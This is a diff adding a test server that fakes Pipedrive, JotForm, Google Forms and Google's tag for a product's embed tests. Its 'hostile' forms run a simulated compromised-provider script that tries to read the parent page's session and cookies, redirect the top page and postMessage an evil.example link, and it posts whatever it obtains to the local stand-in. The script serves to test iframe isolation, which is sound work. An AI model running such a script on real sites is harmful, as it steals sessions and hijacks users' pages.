@@ -1,0 +1,176 @@
+/**
+ * Stands in for Pipedrive, JotForm, Google Forms and Google's tag, on a port of its own ($PROVIDERS_PORT): the product of the
+ * journeys is told so by EMBED_STAND_INS (see product.ts), and then reaches no provider but this. Links are written as
+ * they are in reality (https://webforms.pipedrive.com/f/amable); the product asks for the same path here.
+ *
+ * What a form does is said by its id, in `FORMS`: behave, attack the page that shows it, or never answer. What was sent and
+ * what an attack got hold of is kept, and told by `seenByProviders()`.
+ */
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import { pathToFileURL } from 'node:url';
+
+/** Links of forms, as an administrator pastes them. */
+export const FORMS = {
+  pipedrive: {
+    good: 'https://webforms.pipedrive.com/f/amable',
+    hostile: 'https://webforms.pipedrive.com/f/hostil',
+    silent: 'https://webforms.pipedrive.com/f/callado',
+  },
+  jotform: {
+    good: 'https://form.jotform.com/1000',
+    hostile: 'https://form.jotform.com/6660',
+    silent: 'https://form.jotform.com/4040',
+  },
+  google: {
+    good: 'https://docs.google.com/forms/d/e/amable/viewform',
+    hostile: 'https://docs.google.com/forms/d/e/hostil/viewform',
+    silent: 'https://docs.google.com/forms/d/e/callado/viewform',
+  },
+} as const;
+
+/** Numbers of `FormType`. */
+export const FORM_TYPES = { pipedrive: 1, jotform: 2, google: 3 } as const;
+
+/** Height that the forms tell, in pixels; Google's tells none. */
+export const FORM_HEIGHT = 640;
+
+/** One request that reached the providers: where, with which parameters, and what it carried. */
+export interface Seen {
+  path: string;
+  query: Record<string, string>;
+  body: string;
+}
+
+/** Everything the providers were asked so far, oldest first. `origin` is `http://127.0.0.1:$PROVIDERS_PORT`. */
+export async function seenByProviders(origin = `http://127.0.0.1:${process.env.PROVIDERS_PORT}`): Promise<Seen[]> {
+  return (await (await fetch(`${origin}/seen`)).json()) as Seen[];
+}
+
+/** The product's setting that points every provider here. */
+export const standIns = (port: string): string =>
+  ['pipedrive', 'jotform', 'google', 'analytics'].map((name) => `${name}=http://127.0.0.1:${port}`).join(',');
+
+/** As Pipedrive's: builds a frame beside itself and gives it the height that the form tells. */
+const LOADER = `(() => {
+  const place = document.currentScript.parentElement;
+  const frame = document.createElement('iframe');
+  frame.title = 'Formulario';
+  frame.style.height = '100px';
+  const link = new URL(place.dataset.pdWebforms);
+  for (const [name, value] of Object.entries(window.pd_webform ?? {})) link.searchParams.set('hidden_' + name, value);
+  frame.src = link.href;
+  window.addEventListener('message', ({ source, data }) => {
+    if (source === frame.contentWindow && data?.height) frame.style.height = data.height + 'px';
+  });
+  place.append(frame);
+  if (link.pathname.includes('hostil')) (${attack.toString()})();
+})();`;
+
+/** As Google's tag: sends what was pushed, now and later, to its collector. */
+const TAG = `(() => {
+  const consent = {};
+  const take = (given) => {
+    const [command, name, more] = Array.from(given);
+    if (command === 'consent') Object.assign(consent, more);
+    if (command !== 'event') return;
+    const query = new URLSearchParams({ en: name, dl: more.page_location ?? '', dt: more.page_title ?? '', to: more.send_to ?? '', gcs: consent.analytics_storage });
+    void fetch(new URL('/g/collect?' + query, document.querySelector('script[src*="/gtag/js"]').src), { method: 'POST', mode: 'no-cors' });
+  };
+  window.dataLayer.forEach(take);
+  const push = window.dataLayer.push.bind(window.dataLayer);
+  window.dataLayer.push = (given) => { take(given); return push(given); };
+})();`;
+
+/**
+ * What a stolen provider would try, from its script or from its frame. What it got is sent home. Runs in the browser, so
+ * that it may use nothing of this file.
+ */
+function attack(): void {
+  const got: string[] = [];
+  const attempt = (name: string, work: () => unknown): void => {
+    try {
+      const result = work();
+      if (result !== undefined && result !== null) got.push(`${name}: ${JSON.stringify(result)}`);
+    } catch {
+      // Refused, as it should be.
+    }
+  };
+  attempt('session of the page', () => window.parent.localStorage.getItem('user'));
+  attempt('session of the top page', () => window.top?.localStorage.getItem('user'));
+  attempt('own storage', () => localStorage.getItem('user'));
+  attempt('markup of the page', () => window.parent.document.title);
+  attempt('cookies', () => document.cookie || undefined);
+  attempt('navigation of the top page', () => {
+    if (window.top) window.top.location.href = `${location.origin}/robado`;
+  });
+  attempt('navigation by link', () => {
+    const link = document.createElement('a');
+    [link.href, link.target] = [`${location.origin}/robado`, '_top'];
+    document.body.append(link);
+    link.click();
+  });
+  for (const target of [window.parent, window.top])
+    target?.postMessage({ from: 'sobremesa', type: 'conversion', location: 'https://evil.example' }, '*');
+  const home = document.querySelector<HTMLElement>('[data-pd-webforms]')?.dataset.pdWebforms ?? location.href;
+  void fetch(new URL('/robo', home), { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
+}
+
+/** A provider's form: tells its height as this provider does, and that it was sent. */
+function formPage(provider: keyof typeof FORMS, path: string, query: URLSearchParams): string {
+  const fields = [...query].map(
+    ([name, value]) => `<input type="hidden" name="${escaped(name)}" value="${escaped(value)}">`,
+  );
+  const told = {
+    pipedrive: [`{ type: 'resize', height: ${FORM_HEIGHT} }`, `{ type: 'form:submitted' }`],
+    jotform: [`'setHeight:${FORM_HEIGHT}:${path.split('/').at(-1)}'`, `{ action: 'submission-completed' }`],
+    google: [],
+  }[provider];
+  const tell = told.map((message) => `window.parent.postMessage(${message}, '*');`);
+  return `<!doctype html><html lang="es"><meta charset="utf-8"><title>Formulario de prueba</title>
+<form method="post" action="${escaped(path)}">${fields.join('')}
+<label>Tu correo <input name="correo" type="email" required></label> <button>Enviar formulario</button></form>
+<script>
+${tell[0] ?? ''}
+${/hostil|6660/.test(path) ? `(${attack.toString()})();` : ''}
+document.querySelector('form').addEventListener('submit', (event) => {
+  event.preventDefault();
+  const form = event.target;
+  void fetch(form.action, { method: 'POST', body: new URLSearchParams(new FormData(form)) }).then(() => {
+    document.body.textContent = 'Gracias, recibimos tu respuesta.';
+    ${tell[1] ?? ''}
+  });
+});
+</script></html>`;
+}
+
+const escaped = (text: string): string => text.replace(/[&<>"]/g, (character) => `&#${character.codePointAt(0) ?? 0};`);
+
+const seen: Seen[] = [];
+
+async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
+  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://127.0.0.1');
+  response.setHeader('Access-Control-Allow-Origin', '*');
+  if (pathname === '/seen') return void response.end(JSON.stringify(seen));
+  const body = (await request.toArray()).join('');
+  seen.push({ path: pathname, query: Object.fromEntries(searchParams), body });
+  if (/callado|4040/.test(pathname)) return; // Never answers.
+  const [type, text] = contentOf(pathname, searchParams);
+  response.setHeader('Content-Type', `${type}; charset=utf-8`);
+  response.end(request.method === 'HEAD' ? undefined : text);
+}
+
+function contentOf(path: string, query: URLSearchParams): [type: string, text: string] {
+  if (path === '/f/loader') return ['text/javascript', LOADER];
+  if (path === '/gtag/js') return ['text/javascript', TAG];
+  if (path.startsWith('/f/')) return ['text/html', formPage('pipedrive', path, query)];
+  if (path.startsWith('/forms/')) return ['text/html', formPage('google', path, query)];
+  if (/^\/\d+$/.test(path)) return ['text/html', formPage('jotform', path, query)];
+  return ['text/plain', ''];
+}
+
+if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
+  createServer((request, response) => void answer(request, response)).listen(
+    Number(process.env.PROVIDERS_PORT),
+    '127.0.0.1',
+  );
+}
